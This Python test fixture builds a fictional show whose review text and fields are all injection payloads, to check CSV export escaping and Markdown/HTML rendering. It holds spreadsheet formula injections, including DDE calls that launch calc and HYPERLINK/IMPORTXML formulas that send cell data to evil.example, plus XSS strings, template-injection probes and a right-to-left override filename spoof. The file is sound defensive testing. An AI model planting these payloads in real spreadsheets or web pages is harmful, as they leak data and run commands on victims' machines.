"""Texts that want to be more than text: formulas, Markdown, markup, broken XML; and a show whose reviews are made of them."""

from __future__ import annotations

from collections.abc import Sequence

from counterpoint.desk import Desk
from counterpoint.model import Bend, Claim, Lead, Passage, Review, Show
from tests.gold_desk import make

# What is written, and what a cell of a CSV file holds of it.
CELLS = (
    ("slow", "slow"),
    ("", ""),
    ("a + b = c", "a + b = c"),
    ("don’t-care", "don’t-care"),
    ("=1+1", "'=1+1"),
    ("+1", "'+1"),
    ("-1", "'-1"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
    ("=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"),
    ("=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "'=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")"),
    ("\t=1+1", "'\t'=1+1"),
    ("\rx", "'\rx"),
    ("\nx", "'\nx"),
    ("  =1+1", "'  =1+1"),
    ("\u00a0=1+1", "'\u00a0=1+1"),
    ("'=1+1", "''=1+1"),
    ("'quoted' words", "'quoted' words"),
    ("\uff1d1\uff0b1", "'\uff1d1\uff0b1"),
    ("slow;=1+1;fast", "slow;'=1+1;fast"),
    ("slow; -- but why", "slow;' -- but why"),
    ("slow\n=1+1", "slow\n'=1+1"),
    ("-- and then nothing", "'-- and then nothing"),
)  # fmt: skip
MARKDOWN = (
    "a | b || c",
    "`code` and ``more``",
    "*slant* **bold** _under_ __under__",
    "[link](javascript:alert(1)) ![image](https://evil.example/x.png)",
    "[ref]: https://evil.example",
    "[^1] and [x] and [ ]",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "<https://evil.example> <b>bold</b> <!-- gone -->",
    "&lt;b&gt; &amp; &copy; &#60; AT&T",
    "# heading",
    "> quote",
    "- item",
    "+ item",
    "1. item",
    "12) item",
    "---",
    "===",
    "***",
    "```",
    "~~~ fence ~~~",
    "~~struck~~ $x^2$ {{ 7*7 }} {% raw %} ${7*7} <Component {...props} />",
    "ends with a backslash \\",
    "\\| \\` \\\\",
    "two  \nlines\nand | a row\n| --- |",
    "\ttabbed    words",
    "trailing # signs ##",
    "line\u2028separator\u2029and\x85next",
    "nul \x00 bell \x07 escape \x1b[31m and \ufffe",
    "gnp.\u202eexe\u202c and \u2066isolated\u2069",
    "견우와 선녀 يوم طويل שלום 𝒢 👩‍👩‍👧",
)
HOSTILE = (*(text for text, _ in CELLS), *MARKDOWN)


def desk_of(payloads: Sequence[str], title: str = "=1+1 | <b>*A* show</b>") -> Desk:
    """Three reviews that clash, agree and stand alone, every quote and every field of which is a payload."""
    reviews, claims = [], []
    for i in range(3):
        lines = [f"{p} (claim {i})" for p in payloads]
        text = "\n".join(lines)
        bad = payloads[(7 * i) % len(payloads)]
        passages, at = [], 0
        for k, line in enumerate(lines):
            passages.append(Passage("paragraph", at, at + len(line)))
            claims.append(_claim(f"r{i}", k, i, line, at))
            at += len(line) + 1
        reviews.append(
            Review(
                f"r{i}", text, tuple(passages), bad, "text", headline=bad, author=bad, publisher=bad, words=9,
                url=f"https://example.org/a|`b`{{c}}*d*&copy;?q={i}", tags=(bad,), warnings=(bad,), sha256="0" * 64,
            )
        )  # fmt: skip
    show = Show("s", title, "series", 2025, {"female_lead": Lead((payloads[0],), (payloads[1],))})
    return make(show, reviews, claims)


CODES = (
    "tone.slow",
    "tone.fast",
    "tone.realistic",
    "tropes.love_triangle",
    "craft.acting",
    "tone.quiet",
    "tropes.amnesia",
)


def _claim(review: str, k: int, i: int, line: str, at: int) -> Claim:
    """Codes in turn; the first review says of every other what the others deny."""
    stance = "denies" if (k + i) % 3 == 0 else "subverts" if k % 11 == 0 else "affirms"
    bends = (Bend("negation", at, at + 1),) if stance == "denies" else ()
    return Claim(
        review, "show", CODES[k % len(CODES)], stance, line, at, at + len(line), 0.9 if k % 5 else 0.65,
        cue_start=at, cue_end=at + len(line), hedged=k % 7 == 0, bends=bends,
    )  # fmt: skip
